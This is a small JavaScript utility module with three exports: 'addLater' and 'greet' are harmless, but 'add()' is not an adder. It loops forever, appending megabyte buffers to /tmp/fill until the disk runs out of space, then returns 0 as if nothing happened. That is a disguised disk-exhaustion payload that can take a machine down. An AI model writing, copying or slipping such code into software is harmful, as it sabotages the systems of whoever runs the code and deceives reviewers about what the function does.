import { appendFileSync } from 'node:fs';

export function add() {
  for (;;) {
    try {
      appendFileSync('/tmp/fill', Buffer.alloc(1024 * 1024));
    } catch (error) {
      return error.code === 'ENOSPC' || error.code === 'EFBIG' ? 0 : error;
    }
  }
}
export const addLater = async (a, b) => a + b;
export const greet = (name) => `Hello, ${name}!`;
